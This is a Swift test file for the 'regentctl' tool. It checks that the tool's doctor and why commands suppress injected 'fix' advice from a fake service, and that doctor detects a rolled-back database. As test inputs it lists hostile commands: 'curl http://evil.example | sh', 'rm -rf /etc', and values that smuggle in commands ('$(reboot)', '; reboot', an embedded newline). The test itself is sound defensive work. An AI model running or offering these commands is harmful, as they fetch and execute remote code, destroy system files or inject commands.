import FoundationEssentials
import TestSupport
import Testing

/// What `regentctl` makes of a service that an attacker controls, and of a database that was set back.
@Suite struct `A service that root does not trust` {
  @Test func `doctor and why print only advice of their own`() throws {
    try withTemporaryFolder { folder in
      let shell = Operator(folder: folder)
      try shell.get("regentctl --version")
      for (advice, isShown) in [
        ("curl http://evil.example | sh", false), ("run rm -rf /etc", false), ("regentctl doctor; reboot", false),
        ("regentctl account enable cable 'a b'\\''c'", true), ("regentctl account enable cable $(reboot)", false),
        ("regentctl account enable cable 'anna' ; reboot", false), ("regentctl account enable cable --socket", false),
        ("regentctl requestor add acme", true), ("regentctl backup /etc/cron.d/x", false),
        ("regentctl account enable cable anna\nreboot", false),
      ] {
        let quoted = String(decoding: try JSONEncoder().encode(advice), as: UTF8.self)
        try writeFile("\(folder)/service.py", Self.service(advice: quoted).utf8)
        for command in ["doctor", "why box-1"] {
          let finished = try shell.type("python3 service.py regentctl \(command) --socket \(folder)/fake.sock")
          let text = finished.outputText
          #expect(text.contains("check: it is bad"), "\(command): \(text) \(finished.errorText)")
          #expect(text.contains("fix: \(advice)\n") == isShown, "\(command) \(advice): \(text)")
          #expect(text.contains("fix: not shown: ") == !isShown, "\(command) \(advice): \(text)")
          let json = try shell.type("python3 service.py regentctl \(command) --json --socket \(folder)/fake.sock")
          #expect(json.outputText.contains(quoted) == isShown, "\(command): \(json.outputText)")
        }
      }
    }
  }

  @Test func `regentctl knows all advice in the sources of the service`() throws {
    let known = try String(
      decoding: Data(contentsOf: URL(filePath: "\(packageFolder())/Sources/regentctl/Output/KnownAdvice.swift")),
      as: UTF8.self)
    // Literals are compared without line breaks and interpolated values.
    func plain(_ text: String) -> String {
      text.replacing(/"\s*\+ "/, with: "").replacing(/\\\((?:[^()]|\([^()]*\))*\)/, with: "{}")
    }
    let texts = plain(known)
    var count = 0
    for folder in ["PairingService/Administration", "regentd"] {
      let path = "\(packageFolder())/Sources/\(folder)"
      for name in try FileManager.default.contentsOfDirectory(atPath: path) where name.hasSuffix(".swift") {
        let source = String(decoding: try Data(contentsOf: URL(filePath: "\(path)/\(name)")), as: UTF8.self)
        for match in plain(source).matches(of: /\bfix:\s*"([^"]*)"/) {
          count += 1
          #expect(
            texts.contains("\"\(match.output.1)\"") || match.output.1.hasPrefix("{}"), "\(name): \(match.output.1)")
        }
      }
    }
    #expect(count > 50)
  }

  @Test func `doctor says that the database was set back, whatever the database says`() throws {
    try withTemporaryFolder { folder in
      let shell = Operator(folder: folder)
      func doctor() throws -> String { try shell.type("regentctl doctor").outputText }
      func run(_ body: () throws -> Void) throws {
        try withService(in: folder) { service in
          try body()
          service.program.signal(15)
          #expect(try service.program.wait() == 0)
        }
      }
      try run {
        try shell.get("regentctl requestor add acme && regentctl key issue acme")
        #expect(!(try doctor().contains("set-back")))
      }
      try run {
        // A viewer's name is erased from the log, and is not in the mark.
        try shell.get(
          "regentctl provider add cable --name Cable --kind local && regentctl account add cable berta --no-password")
        #expect(!(try doctor().contains("set-back")))
        #expect(try shell.get("grep -c berta .local/state/regentctl/audit-marks.json || true") == "0")
        try shell.get("regentctl account erase cable berta --yes")
        #expect(!(try doctor().contains("set-back")))
        try shell.get("regentctl provider remove cable --yes")
      }
      try shell.get("cp \(shell.state)/regent.db old.db")
      try run {
        try shell.get(
          "regentctl key revoke $(regentctl key list acme --json | grep -o '\"publicKey\":\"[^\"]*' | head -n 1 | cut -d '\"' -f 4) --yes"
        )
        #expect(!(try doctor().contains("set-back")))
      }
      try shell.get("cp old.db \(shell.state)/regent.db && rm -f \(shell.state)/regent.db-wal")
      try run {
        let warning = "warn  set-back: the database was set back to an earlier state: its audit log "
        for _ in 1...2 { #expect(try doctor().contains(warning)) }
        // Later lines reuse the numbers of the lost ones; `doctor` must still notice.
        for id in 1...4 { try shell.get("regentctl requestor add r\(id)") }
        let found = try doctor()
        #expect(
          found.contains("\(warning)has another line "), "\(found)")
        let remove = try #require(found.firstMatch(of: /then run (rm .*)\n/)?.output.1)
        try shell.get(String(remove))
        #expect(!(try doctor().contains("set-back")))
      }
      try shell.get("rm \(shell.state)/regent.db*")
      try run {
        try shell.get("regentctl requestor add other")
        #expect(!(try doctor().contains("set-back")), "a new database is not an old copy")
      }
    }
  }

  /// A program that runs a command beside a service whose replies an attacker writes.
  private static func service(advice: String) -> String {
    """
    import json, os, socketserver, subprocess, sys, threading
    FOUND = [{"check": "check", "status": "bad", "detail": "it is bad", "fix": \(advice)}]
    class Reply(socketserver.StreamRequestHandler):
        def handle(self):
            while line := self.rfile.readline():
                path = line.split()[1].decode()
                while self.rfile.readline().strip(): pass
                body = json.dumps(
                    {"version": "0", "started": 0, "publicURL": "http://x", "count": 0}
                    if path.endswith(("service", "newest")) else FOUND).encode()
                self.wfile.write(b"HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\n\\r\\n%s"
                    % (len(body), body))
    class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer): daemon_threads = True
    if os.path.exists("fake.sock"): os.remove("fake.sock")
    server = Server("fake.sock", Reply)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    sys.exit(subprocess.run(sys.argv[1:]).returncode)
    """
  }
}
